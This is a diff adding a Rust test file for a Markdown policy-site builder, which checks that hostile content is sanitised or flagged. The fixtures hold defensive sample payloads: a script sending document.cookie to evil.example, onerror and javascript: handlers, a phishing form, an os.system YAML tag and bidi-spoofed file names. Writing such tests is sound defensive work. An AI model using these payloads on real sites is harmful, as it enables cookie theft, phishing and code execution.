@@ -1,0 +1,480 @@
+//! What a hostile or careless author can no longer do to readers, reviewers and CI: run script
+//! in a reader's browser through raw HTML, ping teams or load images from a pull-request
+//! comment, blow a title up to megabytes, shadow a control with a document id, spoof a CI log
+//! with escape or bidi characters in a file name, or smuggle YAML tags and invisible links.
+
+mod common;
+
+use common::*;
+
+/// A policy written for GitHub, as real repositories write them (centred logo, badges,
+/// `<details>`, `<kbd>`, CRLF line ends), with hostile HTML slipped in by one pull request.
+fn github_style_body() -> String {
+    [
+        "<p align=\"center\">",
+        "  <img src=\"assets/logo.png\" width=\"120\" alt=\"Acme\">",
+        "</p>",
+        "",
+        "[![Status](https://img.shields.io/badge/status-approved-green)](https://github.com/acme/isms)",
+        "",
+        "## 🔐 Access rules",
+        "",
+        "Press <kbd>Ctrl</kbd>+<kbd>L</kbd> to lock your screen.<sup>1</sup>",
+        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+        "",
+        "<img src=\"x.png\" onerror=\"alert(1)\" width=\"10\">",
+        "",
+        "<details><summary>Exceptions</summary>",
+        "",
+        "| System | Owner |",
+        "|:--|--:|",
+        "| Billing | <a href=\"javascript:alert(2)\">Finance</a> |",
+        "",
+        "</details>",
+        "",
+        "<iframe src=\"https://evil.example/frame\">frame text</iframe>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">data link</a>",
+        "<div style=\"position:fixed;top:0\" onmouseover=\"steal()\">Overlay</div>",
+        "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"pw\"></form>",
+        "",
+    ]
+    .join("\r\n")
+}
+
+fn hostile_repo(config: &str) -> Repo {
+    let repo = Repo::new();
+    repo.write("ismsbook.toml", format!("{QUIET_GLOBALS}{config}"));
+    repo.write("policies/assets/logo.png", b"\x89PNG\r\n\x1a\n");
+    repo.write("policies/x.png", b"\x89PNG\r\n\x1a\n");
+    repo.doc(
+        "policies/access.md",
+        &Fm::new("POL-1").line("controls: [A.5.15]"),
+        &github_style_body(),
+    );
+    repo
+}
+
+/// The document bodies of a page (a document page has one, print.html one per document).
+fn bodies(html: &str) -> String {
+    html.split("<div class=\"body\">")
+        .skip(1)
+        .map(|rest| rest.split("</article>").next().unwrap_or(rest))
+        .collect()
+}
+
+const NEVER_ON_A_PAGE: [&str; 12] = [
+    "<script",
+    "document.cookie",
+    "onerror",
+    "onmouseover",
+    "javascript:",
+    "<iframe",
+    "frame text",
+    "data:text/html",
+    "position:fixed",
+    "<form",
+    "type=\"password\"",
+    "evil.example",
+];
+
+#[test]
+fn raw_html_is_sanitised_on_the_page_and_in_print_and_each_removal_is_a_note() {
+    let repo = hostile_repo("");
+    repo.build(&["--deny", "warnings"]).expect(0);
+    let page = bodies(&repo.page("policies/access.html"));
+    let print = bodies(&repo.page("print.html"));
+    assert!(
+        print.contains("<kbd>Ctrl</kbd>"),
+        "the policy is in print.html"
+    );
+    for html in [&page, &print] {
+        for bad in NEVER_ON_A_PAGE {
+            assert!(!html.contains(bad), "`{bad}` reached a page:\n{html}");
+        }
+    }
+    // What GitHub keeps is kept.
+    for kept in [
+        "<p align=\"center\">",
+        "<img src=\"assets/logo.png\" width=\"120\" alt=\"Acme\">",
+        "<kbd>Ctrl</kbd>",
+        "<sup>1</sup>",
+        "<details><summary>Exceptions</summary>",
+        "<th style=\"text-align:left\">System</th>",
+        "<a>Finance</a>",
+        "<div>Overlay</div>",
+        "<img src=\"x.png\" width=\"10\">",
+        // The badge's empty link and the emoji heading's id survive as well.
+        "<img src=\"https://img.shields.io/badge/status-approved-green\" alt=\"Status\">",
+        "id=\"-access-rules\"",
+    ] {
+        assert!(page.contains(kept), "`{kept}` missing from\n{page}");
+    }
+
+    let (run, report) = repo.check(&["--deny", "warnings"]);
+    run.expect(0);
+    let notes: Vec<(u64, &str)> = report
+        .with_code("raw-html-removed")
+        .iter()
+        .map(|f| (f.line.unwrap_or(0), f.message.as_str()))
+        .collect();
+    let body = Fm::new("POL-1").line("controls: [A.5.15]").body_line() - 1;
+    assert_eq!(
+        notes,
+        [
+            (
+                body + 10,
+                "raw HTML removed from the page: `<script>` element and its content"
+            ),
+            (
+                body + 12,
+                "raw HTML removed from the page: `onerror` event handler of `<img>`"
+            ),
+            (
+                body + 18,
+                "raw HTML removed from the page: `javascript:` URL in `href` of `<a>`"
+            ),
+            (
+                body + 22,
+                "raw HTML removed from the page: `<iframe>` element and its content"
+            ),
+            (
+                body + 23,
+                "raw HTML removed from the page: `data:` URL in `href` (only images may be data) of `<a>`"
+            ),
+            (
+                body + 24,
+                "raw HTML removed from the page: `style` attribute of `<div>`, `onmouseover` event handler of `<div>`"
+            ),
+            (
+                body + 25,
+                "raw HTML removed from the page: `<form>` element (its text is kept), `name` attribute of `<input>`"
+            ),
+        ],
+        "{}",
+        report.dump()
+    );
+    assert!(report
+        .with_code("raw-html-removed")
+        .iter()
+        .all(|f| f.severity == "note" && f.document.as_deref() == Some("POL-1")));
+    assert_eq!(report.summary_count("notes"), 7);
+    assert_eq!(report.summary_count("errors"), 0);
+
+    // Every CI format knows notes.
+    let human = repo.check_human(&[]);
+    assert!(
+        human
+            .stderr
+            .contains("note[raw-html-removed]: raw HTML removed from the page: `<script>`"),
+        "{}",
+        human.stderr
+    );
+    assert!(human.stderr.contains(", 7 notes ("), "{}", human.stderr);
+    let github = ismsbook(&["check", &path_str(repo.root()), "--format", "github"]);
+    assert!(
+        github
+            .stdout
+            .contains("::notice file=policies/access.md,line="),
+        "{}",
+        github.stdout
+    );
+    let sarif = ismsbook(&["check", &path_str(repo.root()), "--format", "sarif"]);
+    assert!(sarif.stdout.contains("\"level\": \"note\""));
+}
+
+#[test]
+fn raw_html_can_be_shown_as_text_or_trusted_by_configuration() {
+    let repo = hostile_repo("[markdown]\nraw_html = \"escape\"\n");
+    repo.build(&[]).expect(0);
+    let page = bodies(&repo.page("policies/access.html"));
+    assert!(!page.contains("<script"), "{page}");
+    assert!(
+        page.contains("&lt;script&gt;fetch("),
+        "shown as text: {page}"
+    );
+    assert!(page.contains("&lt;kbd&gt;Ctrl&lt;/kbd&gt;"));
+    let (_, report) = repo.check(&[]);
+    assert!(report.with_code("raw-html-removed").is_empty());
+
+    // Trusted: as written, for organisations whose every author may run script (the README
+    // says what that means), and nothing to note.
+    let repo = hostile_repo("[markdown]\nraw_html = \"trusted\"\n");
+    repo.build(&[]).expect(0);
+    let page = bodies(&repo.page("policies/access.html"));
+    assert!(page.contains("<script>fetch("), "{page}");
+    let (_, report) = repo.check(&[]);
+    assert!(report.with_code("raw-html-removed").is_empty());
+
+    let repo = hostile_repo("[markdown]\nraw_html = \"allow\"\n");
+    let run = repo.build(&[]);
+    run.expect(2);
+    assert!(run.stderr.contains("raw_html"), "{}", run.stderr);
+}
+
+#[test]
+fn a_huge_title_is_refused_and_does_not_multiply_through_the_site() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    let title = "Access ".repeat(160_000); // 1.1 MB
+    repo.doc(
+        "policies/big.md",
+        &Fm::new("POL-9").title(&title),
+        "# Access control\n\nText.\n",
+    );
+    for i in 0..5 {
+        repo.doc(
+            &format!("policies/p{i}.md"),
+            &Fm::new(&format!("POL-{i}")),
+            "Body.\n",
+        );
+    }
+    let (run, report) = repo.check(&[]);
+    run.expect(1);
+    let f = report.one("invalid-front-matter", "policies/big.md");
+    assert_eq!(
+        f.message,
+        "title: 1119999 characters long; at most 300 are allowed"
+    );
+    assert_eq!(f.line, Some(3));
+    repo.build(&[]).expect(1);
+    let site_bytes: u64 = all_files(&repo.out())
+        .iter()
+        .map(|f| std::fs::metadata(repo.out().join(f)).map_or(0, |m| m.len()))
+        .sum();
+    assert!(
+        site_bytes < 2_000_000,
+        "the title was repeated across the site: {site_bytes} bytes"
+    );
+    // The page goes by the body's first heading instead.
+    assert!(repo.page("documents/index.html").contains("Access control"));
+
+    // Line breaks in one-line fields, and too many tags.
+    let repo = Repo::new();
+    repo.quiet_globals();
+    let tags: Vec<String> = (0..101).map(|i| format!("t{i}")).collect();
+    repo.doc(
+        "p.md",
+        &Fm::new("POL-1")
+            .owner("\"CISO\\n* @mallory\"")
+            .line(&format!("tags: [{}]", tags.join(", "))),
+        "x\n",
+    );
+    let (_, report) = repo.check(&[]);
+    let messages: Vec<&str> = report
+        .with_code("invalid-front-matter")
+        .iter()
+        .map(|f| f.message.as_str())
+        .collect();
+    assert_eq!(
+        messages,
+        [
+            "owner: \"CISO\\n* @mallory\" holds a line break or another control character",
+            "tags: 101 entries; at most 100 are allowed"
+        ]
+    );
+}
+
+#[test]
+fn a_document_id_that_is_a_control_id_is_a_finding() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    repo.doc("policies/a.md", &Fm::new("A.5.15"), "See [[A.5.15]].\n");
+    repo.doc("policies/b.md", &Fm::new("\"5.1\""), "x\n");
+    let (run, report) = repo.check(&[]);
+    run.expect(1);
+    let a = report.one("duplicate-id", "policies/a.md");
+    assert_eq!(
+        a.message,
+        "id `A.5.15` is the id of Annex A control A.5.15 (Access control): `[[A.5.15]]` links the control, never this document"
+    );
+    assert_eq!((a.line, a.column), (Some(2), Some(1)));
+    let b = report.one("duplicate-id", "policies/b.md");
+    assert!(
+        b.message.contains("Annex A control A.5.1 "),
+        "{}",
+        b.message
+    );
+}
+
+#[test]
+fn escape_and_bidi_characters_in_file_names_are_spelled_out_in_every_text_format() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    // ESC [2J clears the screen; U+202E reverses what follows ("dm.txt" reads "txt.md").
+    let name = "policies/ok\u{1b}[2J\u{202e}dm.txt\u{200b}.md";
+    repo.doc(name, &Fm::new("POL-1"), "[gone](missing.md)\n");
+    let spelled = "policies/ok\\u{1b}[2J\\u{202e}dm.txt\\u{200b}.md";
+    let human = repo.check_human(&[]);
+    assert!(
+        human.stderr.contains(&format!("--> {spelled}:10:1")),
+        "{}",
+        human.stderr
+    );
+    // The quoted line is still found (the real name is looked up).
+    assert!(
+        human.stderr.contains("10 | [gone](missing.md)"),
+        "{}",
+        human.stderr
+    );
+    for format in ["github", "markdown"] {
+        let run = ismsbook(&["check", &path_str(repo.root()), "--format", format]);
+        assert!(
+            !run.stdout.contains('\u{1b}') && !run.stdout.contains('\u{202e}'),
+            "{format}: {:?}",
+            run.stdout
+        );
+        assert!(
+            run.stdout.contains("\\u{1b}") && run.stdout.contains("\\u{202e}"),
+            "{format}: {}",
+            run.stdout
+        );
+    }
+}
+
+#[test]
+fn yaml_tags_and_invisible_links_are_findings() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    repo.doc(
+        "policies/a.md",
+        &Fm::new("POL-1").line("approver: !!binary Qm9hcmQ="),
+        "# A\n\nSee [[POL-2|]] and [](b.md) and [![logo](logo.png)](b.md).\n",
+    );
+    repo.write("policies/logo.png", b"\x89PNG\r\n\x1a\n");
+    repo.doc(
+        "policies/b.md",
+        &Fm::new("POL-2").title("Backup policy"),
+        "x\n",
+    );
+    repo.doc(
+        "policies/c.md",
+        &Fm::new("POL-3").line("tags: [!!python/object:os.system x]"),
+        "x\n",
+    );
+    let (_, report) = repo.check(&[]);
+    let tag = report.one("invalid-front-matter", "policies/a.md");
+    assert_eq!(
+        tag.message,
+        "front matter: the YAML tag `!!binary` is not supported (its value would be read as plain text)"
+    );
+    assert_eq!(tag.line, Some(9));
+    assert!(report
+        .one("invalid-front-matter", "policies/c.md")
+        .message
+        .contains("`!!python/object:os.system`"));
+    let empty: Vec<(u64, u64, &str)> = report
+        .with_code("empty-link-text")
+        .iter()
+        .map(|f| (f.line.unwrap(), f.column.unwrap(), f.message.as_str()))
+        .collect();
+    assert_eq!(
+        empty,
+        [
+            (
+                13,
+                5,
+                "`[[POL-2|]]` has no text after `|`; the page shows the title of `POL-2` instead"
+            ),
+            (
+                13,
+                20,
+                "link to `b.md` has no text, so readers cannot see or click it"
+            ),
+        ]
+    );
+    repo.build(&[]).expect(1);
+    let page = bodies(&repo.page("policies/a.html"));
+    assert!(
+        page.contains("<a href=\"../policies/b.html\">Backup policy</a>"),
+        "{page}"
+    );
+}
+
+#[test]
+fn a_non_finite_number_is_named_as_written() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    repo.doc(
+        "p.md",
+        &Fm::new("POL-1").line("review_interval: .inf"),
+        "x\n",
+    );
+    repo.doc(
+        "q.md",
+        &Fm::new("POL-2").line("review_interval: 1e3"),
+        "x\n",
+    );
+    let (_, report) = repo.check(&[]);
+    assert_eq!(
+        report.one("invalid-front-matter", "p.md").message,
+        "review_interval: .inf is less than the minimum of 1"
+    );
+    assert_eq!(
+        report.one("invalid-front-matter", "q.md").message,
+        "review_interval: 1e3 is more than the maximum of 120"
+    );
+}
+
+/// A pull-request comment must not notify people, load remote images or link anywhere because
+/// of what a document's title says.
+#[test]
+fn pull_request_comments_cannot_mention_or_load_images() {
+    let repo = Repo::new();
+    repo.quiet_globals();
+    let title = "\"Ping @acme/board and @ceo ![x](https://evil.example/p.png) [login](https://evil.example) mail ciso@acme.example\"";
+    repo.doc("p.md", &Fm::new("POL-1"), "x\n");
+    let git = |args: &[&str]| {
+        let ok = std::process::Command::new("git")
+            .args(["-c", "user.name=A", "-c", "user.email=a@example.com"])
+            .args([
+                "-c",
+                "init.defaultBranch=main",
+                "-c",
+                "commit.gpgsign=false",
+            ])
+            .args(args)
+            .current_dir(repo.root())
+            .status()
+            .expect("git runs")
+            .success();
+        assert!(ok, "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "."]);
+    git(&["commit", "-q", "-m", "first"]);
+    repo.doc("p.md", &Fm::new("POL-1").title(title), "x\n");
+    let run = ismsbook(&[
+        "diff",
+        "HEAD",
+        "-C",
+        &path_str(repo.root()),
+        "--today",
+        TODAY,
+    ]);
+    run.expect(0);
+    let text = &run.stdout;
+    assert!(
+        text.contains("Ping @&#8203;acme/board and @&#8203;ceo"),
+        "{text}"
+    );
+    let live_mention = text.char_indices().any(|(i, c)| {
+        c == '@'
+            && !text[..i]
+                .chars()
+                .next_back()
+                .is_some_and(|p| p.is_alphanumeric())
+            && text[i + 1..]
+                .chars()
+                .next()
+                .is_some_and(char::is_alphanumeric)
+    });
+    assert!(!live_mention, "{text}");
+    assert!(!text.contains("![x]("), "an image would load: {text}");
+    assert!(!text.contains("[login]("), "a link would be live: {text}");
+    assert!(
+        text.contains("!\\[x\\](https://evil.example/p.png)"),
+        "{text}"
+    );
+    // E-mail addresses are not mentions and stay as written.
+    assert!(text.contains("ciso@acme.example"), "{text}");
+}
